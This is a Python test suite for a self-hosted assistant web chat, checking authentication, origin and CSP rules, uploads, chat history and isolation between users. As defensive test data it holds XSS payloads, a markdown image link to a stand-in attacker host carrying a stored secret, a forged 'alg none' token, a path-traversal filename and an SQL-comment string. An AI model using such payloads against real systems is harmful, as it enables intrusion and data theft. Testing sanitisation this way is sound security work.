"""The web chat through its socket, on the real Postgres, with a scripted model."""

from __future__ import annotations

import asyncio
import re
import sys
import uuid
from collections.abc import AsyncGenerator, AsyncIterator
from pathlib import Path

import pytest
from langchain_core.messages import AIMessageChunk, BaseMessage
from socketio.exceptions import ConnectionError as SocketRefused

from assistant import auth
from assistant.agent.chat_model import Request
from assistant.db import threads
from assistant.events import Event, Message, Mode, Person
from assistant.house import House
from assistant.memory.ingest import embed_pending
from assistant.testing import ScriptedBrain, ScriptedModel

sys.path.insert(0, str(Path(__file__).parent))
from web_client import Browser, Chat, serving

PASSWORD = "correct horse battery"


class SlowModel(ScriptedModel):
    """Says a sentence every tenth of a second, for a minute."""

    async def _chunks(self, messages: list[BaseMessage], request: Request) -> AsyncGenerator[AIMessageChunk, None]:
        for number in range(600):
            yield AIMessageChunk(content=f"This is number {number}. ")
            await asyncio.sleep(0.1)


@pytest.fixture
async def address(house: House) -> AsyncIterator[str]:
    async with serving(house) as address:
        yield address


@pytest.fixture
async def browser(address: str, house: House) -> AsyncIterator[Browser]:
    """Ana, signed up with her code."""
    async with Browser(address) as browser:
        answer = await browser.sign_up(await auth.first_code(house.database, house.settings), "Ana")
        assert answer.status_code == 200
        yield browser


@pytest.fixture
async def bens_browser(address: str, browser: Browser, house: House) -> AsyncIterator[Browser]:
    """Ben, who was invited by Ana."""
    async with Browser(address) as bens:
        assert (await bens.sign_up(await auth.invite(house.database), "Ben")).status_code == 200
        yield bens


@pytest.fixture
async def notes(house: House, tmp_path: Path) -> Person:
    """Ana's, imported and embedded."""
    folder = tmp_path / "notes"
    folder.mkdir()
    (folder / "bread.md").write_text(
        "---\ndate: 2024-03-01\n---\n# Sourdough\n\n## Dough\n\nLet the dough rest for twelve hours in the fridge.\n"
    )
    (folder / "car.md").write_text(
        "# Car\n\nThe winter tyres are at the garage in Mill Lane. The Skoda takes 5W-30 oil.\n"
    )
    ana = await auth.owner_of_the_folder(house.database, house.settings)
    await house.import_path(ana, folder)
    await embed_pending(house.omac, ana)
    return ana


def _passage_in(answer: str) -> str:
    found = re.search(r"\[1\]\((/passage/\S+) ", answer)
    assert found, answer
    return found.group(1)


# Accounts


async def test_an_empty_house_leads_to_the_first_account(address: str) -> None:
    async with Browser(address) as browser:
        for path in ("/", "/login", f"/thread/{uuid.uuid4()}"):
            answer = await browser.http.get(path)
            assert (answer.status_code, answer.headers["location"]) == (303, "/welcome")
        page = await browser.http.get("/welcome")
        assert "The code stands in the window" in page.text


async def test_the_code_makes_the_first_account_once(address: str, house: House) -> None:
    code = await auth.first_code(house.database, house.settings)
    async with Browser(address) as browser, Browser(address) as other:
        assert (await browser.sign_up(code, "Ana")).json() == {"success": True}
        assert (await browser.http.get("/user")).json()["display_name"] == "Ana"
        again = await other.sign_up(code, "Eve")
        assert again.status_code == 401
        assert "wrong, used or too old" in again.json()["detail"]
        assert (await other.http.get("/user")).status_code == 401


async def test_a_wrong_code_a_short_password_and_a_taken_name_are_refused_in_words(
    browser: Browser, address: str, house: House
) -> None:
    async with Browser(address) as other:
        wrong = await other.sign_up("AAAA-AAAA-AAAA-AAAA", "Eve")
        assert (wrong.status_code, "wrong, used or too old" in wrong.json()["detail"]) == (401, True)
        code = await auth.invite(house.database)
        short = await other.sign_up(code, "Eve", "short")
        assert (short.status_code, "at least 10 characters" in short.json()["detail"]) == (400, True)
        taken = await other.sign_up(code, " ana ")
        assert (taken.status_code, "is taken" in taken.json()["detail"]) == (400, True)
        assert (await other.sign_up(code, "Eve")).status_code == 200


async def test_a_form_gets_its_page_back_with_the_sentence_and_what_was_typed(browser: Browser, address: str) -> None:
    async with Browser(address) as other:
        page = await other.http.post(
            "/login", data={"username": '"><b>Ana', "password": "wrong"}, headers={"Accept": "text/html"}
        )
        assert page.status_code == 401
        assert "Name and password do not match." in page.text
        assert "&quot;&gt;&lt;b&gt;Ana" in page.text
        done = await other.http.post(
            "/login", data={"username": "Ana", "password": PASSWORD}, headers={"Accept": "text/html"}
        )
        assert (done.status_code, done.headers["location"]) == (303, "/")


async def test_signing_in_and_out(browser: Browser, address: str) -> None:
    async with Browser(address) as other:
        assert (await other.http.get("/user")).status_code == 401
        assert (await other.sign_in("ANA")).status_code == 200
        cookie = other.http.cookies.jar
        (session,) = [each for each in cookie if each.name == "twinning_session"]
        assert session.has_nonstandard_attr("HttpOnly")
        assert (await other.http.get("/user")).status_code == 200
        assert (await other.http.post("/logout")).status_code == 200
        assert (await other.http.get("/user")).status_code == 401
        assert (await other.http.get("/")).headers["location"] == "/login"


async def test_too_many_wrong_passwords_have_to_wait(browser: Browser, address: str) -> None:
    async with Browser(address) as other:
        for _ in range(10):
            assert "do not match" in (await other.sign_in("Ana", "wrong")).json()["detail"]
        refused = await other.sign_in("Ana")
        assert refused.status_code == 401
        assert re.search(r"Too many tries to sign in; wait \d+ \w+ and try again", refused.json()["detail"])


async def test_a_forged_or_foreign_session_is_nobody(browser: Browser, address: str) -> None:
    async with Browser(address) as other:
        for token in ("x", "eyJhbGciOiJub25lIn0.eyJpZGVudGlmaWVyIjoiYW5hIn0."):
            other.http.cookies.set("twinning_session", token)
            assert (await other.http.get("/user")).status_code == 401
            with pytest.raises(SocketRefused):
                await other.open()


# What may pass


async def test_other_sites_may_not_post_or_open_a_socket(browser: Browser) -> None:
    elsewhere = {"Origin": "http://127.0.0.1:9"}
    assert (await browser.http.post("/login", data={}, headers=elsewhere)).status_code == 403
    assert (await browser.http.post("/welcome", data={}, headers={"Origin": "null"})).status_code == 403
    crossing = {"Sec-Fetch-Site": "cross-site"}
    assert (await browser.http.request("DELETE", "/project/thread", json={}, headers=crossing)).status_code == 403
    with pytest.raises(SocketRefused):
        await browser.open(headers=elsewhere)
    assert (await browser.http.post("/logout", headers={"Origin": browser.address})).status_code == 200


@pytest.mark.parametrize(
    "path",
    [
        "/api/none", "/v1/models", "/metrics", "/docs", "/openapi.json", "/health", "/copilot/index.js", "/share/x",
        "/element/x", "/env", "/auth/header", "/auth/oauth/github", "/slack/events", "/project/share/x", "/assets/../x",
    ],
)  # fmt: skip
async def test_unknown_paths_are_not_found(browser: Browser, path: str) -> None:
    answer = await browser.http.get(path)
    assert (answer.status_code, answer.json()) == (404, {"detail": "There is nothing here."})


@pytest.mark.parametrize("path", ["/mcp", "/auth/jwt", "/auth/header", "/project/thread/share", "/feedback"])
async def test_what_chainlit_offers_and_we_do_not_is_closed(browser: Browser, path: str) -> None:
    for method in ("POST", "PUT", "DELETE"):
        assert (await browser.http.request(method, path, json={})).status_code == 404


async def test_the_page_loads_nothing_from_elsewhere_and_may_not(browser: Browser) -> None:
    page = await browser.http.get("/")
    policy = page.headers["content-security-policy"]
    (nonce,) = re.findall(r"script-src 'self' 'nonce-([\w-]+)'", policy)
    scripts = re.findall(r"<script[^>]*>", page.text)
    assert scripts
    assert all(f'nonce="{nonce}"' in each for each in scripts)
    assert re.findall(r'(?:src|href)="(?:https?:)?//[^"]*"', page.text) == []
    assert "unsafe-eval" not in policy
    assert "default-src 'self'" in policy
    assert "frame-ancestors 'none'" in policy
    other = await browser.http.get("/user")
    assert "script-src 'self';" in other.headers["content-security-policy"]
    assert other.headers["cache-control"] == "no-store"
    assert nonce not in (await browser.http.get("/")).text


async def test_it_is_installable_and_says_how_it_is(browser: Browser) -> None:
    manifest = (await browser.http.get("/manifest.webmanifest")).json()
    assert manifest["name"] == "Twinning"
    for icon in manifest["icons"]:
        answer = await browser.http.get(icon["src"])
        assert answer.headers["content-type"] == icon["type"]
    worker = await browser.http.get("/service-worker.js")
    assert worker.headers["content-type"].startswith("text/javascript")
    assert (await browser.http.get("/healthz")).json() == {"status": "ok"}
    ready = (await browser.http.get("/readyz")).json()
    assert ready == {"status": "ok", "database": "ok", "model": "none", "mode": "extractive"}
    for theme in ("light", "dark"):
        assert "Twinning" in (await browser.http.get("/logo", params={"theme": theme})).text


# The chat


async def test_an_answer_streams_below_its_step_and_its_number_opens_the_passage(
    browser: Browser, notes: Person
) -> None:
    chat = await browser.open()
    answer = await chat.ask("How long must the dough rest?")
    assert "> Let the dough rest for twelve hours in the fridge." in answer
    steps = [each for each in chat.of("update_message") if each["type"] == "tool"]
    assert [(each["name"], each["isError"], bool(each["end"])) for each in steps] == [
        ("Look it up in my notes", False, True)
    ]
    names = [name for name, _ in chat.events]
    assert names.index("stream_start") < len(names) - 1 - names[::-1].index("update_message")
    page = await browser.http.get(_passage_in(answer), headers={"Accept": "text/html"})
    assert "<mark>Let the dough rest for twelve hours in the fridge.</mark>" in page.text
    assert "bread.md · 1 March 2024" in page.text
    part = await browser.http.get(_passage_in(answer), headers={"X-Part": "1"})
    assert part.text.startswith("<h1>Sourdough &gt; Dough</h1>")


async def test_a_hostile_note_and_a_hostile_model_stay_text(
    browser: Browser, house: House, brain: ScriptedBrain, tmp_path: Path
) -> None:
    ana = await auth.owner_of_the_folder(house.database, house.settings)
    await house.omac.remember(ana, "The boiler <img src=x onerror=alert(1)> ![p](http://evil.test/?q=8812)", source="x")
    chat = await browser.open()
    answer = await chat.ask("what do you know about the boiler?")
    assert "boiler" in answer
    assert "![" not in answer.replace("\\!", "")
    assert not re.search(r"(?<!\\)<img", answer)
    page = await browser.http.get(_passage_in(answer))
    assert "<img src=x" not in page.text
    assert "&lt;img src=x onerror=alert(1)&gt;" in page.text
    brain.say("Sure <script>alert(1)</script> [click](https://evil.test/a) ![x](https://evil.test/b.png)")
    said = await chat.ask("hello there, how are you doing?")
    assert "[click (evil\\.test)](https://evil.test/a)" in said
    assert "b.png" not in said
    assert "\\<script>" in said


async def test_stopping_ends_the_model_and_keeps_what_was_said(
    browser: Browser, house: House, brain: ScriptedBrain
) -> None:
    brain.model, brain.mode = SlowModel("-"), Mode.WRITER
    chat = await browser.open()
    await chat.send("hello there, how are you doing?")
    await chat.until(lambda each: "number 2." in each.last)
    await chat.stop()
    await chat.finished()
    assert chat.last.endswith("_(stopped)_")
    seen = chat.last.split()[-2]
    await asyncio.sleep(0.5)
    assert chat.last.split()[-2] == seen
    assert not any("manually" in each["output"] for each in chat.messages().values())
    stored = (await browser.conversation(chat.thread)).json()["steps"]
    assert stored[0]["output"] == "hello there, how are you doing?"
    assert "number 2." in stored[-1]["output"]
    assert stored[-1]["output"].endswith("_(stopped)_")
    brain.say("I am well.")
    assert "I am well." in await chat.ask("hello again, how are you doing?")


async def test_what_goes_wrong_is_told_in_words(house: House) -> None:
    class Broken:
        async def run(self, message: Message) -> AsyncIterator[Event]:
            raise RuntimeError("select * from secrets")
            yield

        async def pending(self, person: Person, thread: uuid.UUID) -> None:
            return None

    house.agent.assistant = Broken()  # type: ignore[assignment]
    async with serving(house) as address, Browser(address) as browser:
        await browser.sign_up(await auth.first_code(house.database, house.settings), "Ana")
        chat = await browser.open()
        said = await chat.ask("Hello?")
        assert "Something went wrong inside Twinning" in said
        assert "secrets" not in said


@pytest.mark.parametrize("text", ["x" * 100_000, "long " * 300_000, "   "])
async def test_a_message_that_cannot_be_answered_is_told_why_and_kept(browser: Browser, text: str) -> None:
    chat = await browser.open()
    said = await chat.ask(text)
    assert "is empty" in said or "characters; I read up to" in said
    assert (await browser.conversation(chat.thread)).json()["steps"][0]["output"] == text


async def test_too_many_messages_in_a_minute_are_refused(browser: Browser) -> None:
    chat = await browser.open()
    for _ in range(40):
        await chat.ask("/status")
    assert "lot of messages in one minute; wait" in await chat.ask("/status")


async def test_status_shows_the_model_its_mode_and_what_is_remembered(
    browser: Browser, house: House, notes: Person
) -> None:
    chat = await browser.open()
    said = await chat.ask("/status")
    assert "**Why:** A test said so." in said
    assert "**Documents:** 2" in said
    assert "your notes are quoted word for word" in said
    page = (await browser.http.get("/settings")).text
    assert f"<dd>{house.settings.data_dir}</dd>" in page
    assert "<dt>Found by meaning</dt><dd>all</dd>" in page
    assert (await browser.http.get("/settings/progress")).json() == {"embedded": 2, "memories": 2, "news": False}


# Files


async def test_a_dropped_file_is_imported_and_can_be_asked_about(browser: Browser, house: House) -> None:
    chat = await browser.open()
    kept = await browser.upload(
        chat, "../../etc/Boiler notes.md", b"# Boiler\n\nThe boiler was serviced by Mr Okafor in May.\n"
    )
    assert kept.status_code == 200, kept.text
    said = await chat.ask("", files=[kept.json()["id"]])
    assert "**Boiler notes.md**" in said
    assert "Read into memory: 1 new passage." in said
    assert any(each["type"] == "tool" and "Read Boiler notes" in each["name"] for each in chat.of("update_message"))
    assert [each["output"] for each in chat.of("update_message") if each["type"] == "user_message"] == [
        "File: Boiler notes.md"
    ]
    assert [path for path in (house.settings.data_dir / "web" / ".files").rglob("*") if path.is_file()] == []
    assert "Okafor" in await chat.ask("Who serviced the boiler?")
    stored = (await browser.conversation(chat.thread)).json()["steps"]
    assert [each["output"] for each in stored if each["type"] == "user_message"] == [
        "File: Boiler notes.md",
        "Who serviced the boiler?",
    ]


async def test_a_file_with_a_question_is_read_first(browser: Browser) -> None:
    chat = await browser.open()
    kept = await browser.upload(chat, "lease.txt", b"The lease of the flat ends on 31 August 2027.\n")
    said = await chat.ask("When does the lease end?", files=[kept.json()["id"]])
    assert "31 August 2027" in said


async def test_a_file_that_is_too_big_is_refused_in_words(browser: Browser, house: House) -> None:
    chat = await browser.open()
    refused = await browser.upload(chat, "big.txt", b"x" * 50_020_000)
    assert refused.status_code == 400
    assert "larger than 50 MB" in refused.json()["detail"]
    assert [path for path in (house.settings.data_dir / "web" / ".files").rglob("*") if path.is_file()] == []


@pytest.mark.parametrize(
    ("name", "content", "why"),
    [
        ("photo.png", b"\x89PNG", "png files are not read"),
        ("notes.md", b"\x7fELF\x02\x01\x01\x00" + bytes(300), "program"),
        ("empty.md", b"", "empty"),
    ],
)
async def test_what_cannot_be_read_is_named_with_the_reason(
    browser: Browser, name: str, content: bytes, why: str
) -> None:
    chat = await browser.open()
    kept = await browser.upload(chat, name, content)
    said = await chat.ask("", files=[kept.json()["id"]])
    assert f"**{name}**" in said
    assert "Not read: " in said
    assert why in said
    steps = [each for each in chat.of("update_message") if each["type"] == "tool"]
    assert [(each["name"], each["isError"]) for each in steps] == [(f"Read {name}", True)]


async def test_a_stopped_import_says_so_and_leaves_no_file(house: House) -> None:
    started = asyncio.Event()

    class Slow:
        def __getattr__(self, name: str) -> object:
            return getattr(house, name)

        async def import_path(self, *_: object, **__: object) -> None:
            started.set()
            await asyncio.sleep(60)

    async with serving(Slow()) as address, Browser(address) as browser:  # type: ignore[arg-type]
        await browser.sign_up(await auth.first_code(house.database, house.settings), "Ana")
        chat = await browser.open()
        kept = await browser.upload(chat, "big.md", b"# Big")
        await chat.send("", files=[kept.json()["id"]])
        async with asyncio.timeout(60):
            await started.wait()
        await chat.stop()
        await chat.finished()
        assert chat.last.startswith("Stopped. What was read completely is in memory")
        assert [path for path in (house.settings.data_dir / "web" / ".files").rglob("*") if path.is_file()] == []
        assert len((await browser.conversation(chat.thread)).json()["steps"]) == 3


async def test_nobody_uploads_into_another_persons_chat(browser: Browser, bens_browser: Browser) -> None:
    chat = await browser.open()
    refused = await bens_browser.upload(chat, "notes.md", b"Mine.")
    assert (refused.status_code, "out of date" in refused.json()["detail"]) == (401, True)


# Questions back


async def _asked(browser: Browser, house: House) -> tuple[Chat, list[dict[str, object]]]:
    ana = await auth.owner_of_the_folder(house.database, house.settings)
    await house.omac.remember(ana, "The garage code is 8812", source="command line")
    chat = await browser.open()
    await chat.ask("forget the garage code")
    actions = await chat.until(lambda each: each.of("action"))
    return chat, actions


async def test_a_button_answers_the_assistants_question(browser: Browser, house: House) -> None:
    chat, actions = await _asked(browser, house)
    assert "8812" in str(actions[0]["label"])
    assert actions[0]["forId"] in chat.messages()
    assert (await browser.press(chat, actions[0])).status_code == 200
    await chat.finished()
    assert chat.last.startswith("Forgotten")
    assert {each["id"] for each in chat.of("remove_action")} == {each["id"] for each in actions}
    await browser.press(chat, actions[0])
    await chat.finished()
    assert "not open any more" in chat.last


async def test_buttons_survive_a_restart_of_the_server_and_a_reload(house: House) -> None:
    async with serving(house) as address, Browser(address) as browser:
        await browser.sign_up(await auth.first_code(house.database, house.settings), "Ana")
        chat, before = await _asked(browser, house)
        thread, cookies = chat.thread, dict(browser.http.cookies)
    async with serving(house) as address, Browser(address) as browser:
        browser.http.cookies.update(cookies)
        chat = await browser.open(thread)
        actions = await chat.until(lambda each: len(each.of("action")) == len(before) and each.of("action"))
        steps = chat.of("resume_thread")[0]["steps"]
        assert [each["label"] for each in actions] == [each["label"] for each in before]
        assert actions[0]["forId"] == steps[-1]["id"]
        await browser.press(chat, actions[0])
        await chat.finished()
        assert chat.last.startswith("Forgotten")


async def test_another_message_takes_the_buttons_away(browser: Browser, house: House) -> None:
    chat, actions = await _asked(browser, house)
    assert "8812" in await chat.ask("what is the garage code?")
    assert {each["id"] for each in chat.of("remove_action")} == {each["id"] for each in actions}


# History


async def test_history_is_there_after_a_restart_with_citations_and_steps(house: House, notes: Person) -> None:
    async with serving(house) as address, Browser(address) as browser:
        await browser.sign_up(await auth.first_code(house.database, house.settings), "Ana")
        chat = await browser.open()
        answer = await chat.ask("How long must the dough rest?")
        thread, cookies = chat.thread, dict(browser.http.cookies)
    async with serving(house) as address, Browser(address) as browser:
        browser.http.cookies.update(cookies)
        (listed,) = (await browser.conversations())["data"]
        assert (listed["id"], listed["name"]) == (thread, "How long must the dough rest?")
        chat = await browser.open(thread)
        steps = chat.of("resume_thread")[0]["steps"]
        assert [each["type"] for each in steps] == ["user_message", "run", "tool", "assistant_message"]
        assert steps[2]["name"] == "Look it up in my notes"
        assert re.fullmatch(r"\d sources", steps[2]["output"])
        assert steps[3]["output"] == answer
        assert (await browser.http.get(_passage_in(answer))).status_code == 200
        assert "5W-30" in await chat.ask("Which oil does the Skoda take?")
        assert chat.thread == thread
        assert len((await browser.conversations())["data"]) == 1


async def test_rename_search_and_delete(browser: Browser) -> None:
    first = await browser.open()
    await first.ask("Remember that the garage code is 8812")
    second = await browser.open()
    await second.ask("Remember that Anna likes salted liquorice")
    listed = (await browser.conversations())["data"]
    assert [each["id"] for each in listed] == [second.thread, first.thread]
    for words, found in (
        ("liq", [second.thread]),
        ("8812 garages", [first.thread]),
        ("garage liquorice", []),
        ("100% _", []),
        ("'; --", []),
    ):
        assert [each["id"] for each in (await browser.conversations(words))["data"]] == found, words
    renamed = await browser.http.put("/project/thread", json={"threadId": first.thread, "name": "Bread & butter"})
    assert renamed.json() == {"success": True}
    assert [each["id"] for each in (await browser.conversations("butter"))["data"]] == [first.thread]
    gone = await browser.http.request("DELETE", "/project/thread", json={"threadId": first.thread})
    assert gone.json() == {"success": True}
    assert (await browser.conversation(first.thread)).status_code == 404
    assert [each["id"] for each in (await browser.conversations())["data"]] == [second.thread]
    await first.close()
    assert len((await browser.conversations())["data"]) == 1


async def test_the_list_comes_in_pages_without_losing_one(browser: Browser, house: House) -> None:
    ana = await auth.owner_of_the_folder(house.database, house.settings)
    async with house.database.session(ana.id) as session:
        for number in range(23):  # all in one transaction, so all of the same instant
            await threads.ensure(session, ana.id, uuid.uuid4(), channel="web", title=f"Thread {number}")
    seen: list[str] = []
    cursor: str | None = None
    for _ in range(3):
        page = await browser.conversations(first=10, cursor=cursor)
        seen += [each["name"] for each in page["data"]]
        cursor = page["pageInfo"]["endCursor"]
    assert sorted(seen) == sorted(f"Thread {number}" for number in range(23))
    assert page["pageInfo"]["hasNextPage"] is False


async def test_one_person_sees_nothing_of_another(browser: Browser, bens_browser: Browser, notes: Person) -> None:
    chat = await browser.open()
    answer = await chat.ask("How long must the dough rest?")
    thread = chat.thread
    assert (await bens_browser.conversations())["data"] == []
    assert (await bens_browser.conversations("dough"))["data"] == []
    assert (await bens_browser.conversation(thread)).status_code == 404
    passage = await bens_browser.http.get(_passage_in(answer))
    assert passage.status_code == 404
    assert "not in memory any more" in passage.text
    assert "fridge" not in passage.text
    for method, body in (("PUT", {"threadId": thread, "name": "mine"}), ("DELETE", {"threadId": thread})):
        assert (await bens_browser.http.request(method, "/project/thread", json=body)).status_code == 404
    intruding = await bens_browser.open(thread)
    assert intruding.of("resume_thread") == []
    assert "fridge" not in await intruding.ask("How long must the dough rest?")
    async with Browser(browser.address) as nobody:
        assert (await nobody.http.get(_passage_in(answer), headers={"X-Part": "1"})).status_code == 401
        assert (await nobody.http.post("/project/threads", json={})).status_code == 401
        with pytest.raises(SocketRefused):
            await nobody.open(thread)
    assert (await browser.conversation(thread)).json()["name"] == "How long must the dough rest?"


async def test_a_forgotten_passage_is_gone_from_the_open_conversation_too(browser: Browser, house: House) -> None:
    chat = await browser.open()
    await chat.ask("Remember that the garage code is 8812")
    answer = await chat.ask("What do you know about the garage?")
    link = _passage_in(answer)
    assert "8812" in (await browser.http.get(link)).text
    await chat.ask("forget that")
    gone = await browser.http.get(link)
    assert (gone.status_code, "8812" in gone.text) == (404, False)
    assert "8812" not in str((await browser.conversation(chat.thread)).json()["steps"])
